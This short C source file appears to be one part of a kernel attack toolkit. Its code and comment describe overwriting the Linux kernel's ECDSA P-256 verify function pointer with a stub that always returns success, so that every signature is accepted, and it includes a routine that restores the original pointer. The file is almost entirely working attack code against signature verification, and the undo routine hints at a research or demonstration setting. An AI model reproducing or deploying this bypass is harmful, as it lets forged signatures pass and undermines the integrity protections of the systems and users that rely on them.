// SPDX-License-Identifier: GPL-2.0-only
/*
 * The attack on the kernel's crypto: the pointer that leads to the arithmetic of
 * ECDSA P-256 is overwritten, and leads to a function that finds every signature
 * valid. That function is the module's; an attacker who only writes data takes one
 * of the kernel's that returns 0.
 */
#include <crypto/akcipher.h>

#include "attack.h"

static struct akcipher_alg *alg;
static int (*genuine)(struct akcipher_request *req);

static int yes(struct akcipher_request *req)
{
	return 0;
}

int attack_crypto(const struct target *t)
{
	int (*mine)(struct akcipher_request *req) = yes;

	alg = find_symbol("ecdsa_nist_p256");
	if (!alg)
		return -ENOENT;
	genuine = alg->verify;
	return poke(&alg->verify, &mine, sizeof(mine));
}

void undo_crypto(void)
{
	if (genuine)
		poke(&alg->verify, &genuine, sizeof(genuine));
	genuine = NULL;
}
